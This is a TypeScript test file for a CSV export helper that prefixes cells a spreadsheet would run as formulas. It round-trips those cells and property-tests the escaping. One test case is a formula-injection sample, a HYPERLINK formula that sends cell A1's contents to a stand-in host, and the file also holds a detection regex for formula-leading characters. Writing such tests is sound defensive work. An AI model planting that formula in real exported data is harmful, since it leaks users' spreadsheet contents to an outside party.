import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { fromSpreadsheetSafe, spreadsheetSafe } from '../../src/interop/spreadsheet-cell.js';

const RUNS = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

describe('CSV cells a spreadsheet would run as a formula', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?leak="&A1,"Click me")', '\'=HYPERLINK("http://x.example/?leak="&A1,"Click me")'],
    ['+1', "'+1"], ['-1', "'-1"], ['@SUM(A1)', "'@SUM(A1)"], ['\tcmd', "'\tcmd"], ['\rcmd', "'\rcmd"], ['＝1+1', "'＝1+1"],
    ["'=1+1", "''=1+1"], ["''@x", "'''@x"],
    ['City of Odessa', 'City of Odessa'], ["'Tis the season", "'Tis the season"], ["'", "'"], ['', ''], ['a=b', 'a=b'], ['2020-04', '2020-04'],
  ])('GIVEN %j THEN exported as %j and imported back as it was', (value, exported) => {
    expect(spreadsheetSafe(value)).toBe(exported);
    expect(fromSpreadsheetSafe(exported)).toBe(value);
  });

  it('GIVEN any text THEN the exported cell never begins like a formula, and import gives back the text', () => {
    const text = fc.oneof(fc.string(), fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '＝', 'a', ' ') }));
    fc.assert(fc.property(text, (value) => {
      const cell = spreadsheetSafe(value);
      expect(RUNS.test(cell)).toBe(false);
      expect(fromSpreadsheetSafe(cell)).toBe(value);
    }), { numRuns: 2000 });
  });
});
